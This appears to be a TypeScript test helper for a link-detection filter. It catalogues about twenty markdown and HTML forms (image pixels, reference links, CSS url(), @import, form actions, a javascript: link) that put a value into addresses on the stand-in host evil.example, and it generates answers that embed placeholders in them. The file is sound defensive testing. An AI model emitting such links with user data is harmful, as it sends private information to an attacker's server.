import { createRandom } from './random.ts';

/** Ways in which a model may put a value into an address; `{}` stands for its placeholder. */
const LINKS: readonly string[] = [
  '[Profil](https://evil.example/u/{})',
  '![](https://evil.example/pixel.png?q={}&x=1)',
  '[Suche](<https://evil.example/?q={}>)',
  '[Suche]( //evil.example/{} )',
  '[a](javascript:open("https://evil.example/{}"))',
  '[ref][1]\n\n[1]: https://evil.example/{} "Titel"\n',
  '[ref][2]\n\n[2]: <https://evil.example/?a={}>\n',
  '<https://evil.example/{}>',
  'Siehe https://evil.example/path?name={}&b=2 dazu.',
  'Siehe www.evil.example/{}.',
  'https://{}.evil.example/',
  '<img src="https://evil.example/{}">',
  "<a href='https://evil.example/?q={}'>hier</a>",
  '<img src=https://evil.example/{}>',
  '<img srcset="https://evil.example/{} 1x">',
  '<div style="background:url(https://evil.example/{})">x</div>',
  '<style>@import "https://evil.example/{}.css";</style>',
  '```css\nbody { background: url("https://evil.example/?{}") }\n```',
  '<form action="https://evil.example/{}"><input></form>',
  '[x](https://evil.example/a(b){})',
  '![x](\nhttps://evil.example/{}\n)',
];

/** What a program would open in a text; more rather than less. */
export function addressesIn(text: string): string[] {
  const patterns = [
    /\]\(\s*((?:[^()\s]|\([^()\s]*\))*)/g,
    /^\s{0,3}\[[^\]]+\]:\s*(\S+)/gm,
    /<((?:https?:|www\.|\/\/)[^>\n]*)>/g,
    /(?:src|href|srcset|action|style)=("[^"]*"|'[^']*'|[^\s>]*)/g,
    /url\(([^)]*)\)/g,
    /@import\s+["']([^"']*)/g,
    /((?:https?:\/\/|www\.)[^\s<>]*)/g,
  ];
  return patterns.flatMap((pattern) => [...text.matchAll(pattern)].map(([, address]) => address!));
}

/** An answer with some of the links, for each placeholder, and the placeholder in plain text too. */
export function linkedAnswer(placeholders: readonly string[], seed: number): string {
  const random = createRandom(seed + 1);
  const lines = placeholders.flatMap((placeholder, index) => [
    `Zu ${placeholder} gibt es folgendes:`,
    LINKS[(seed + index) % LINKS.length]!.replace('{}', placeholder),
    random.pick(LINKS).replace('{}', () => (random.chance(0.3) ? `a${placeholder}z` : placeholder)),
  ]);
  return lines.join(random.pick(['\n\n', '\n', ' ']));
}
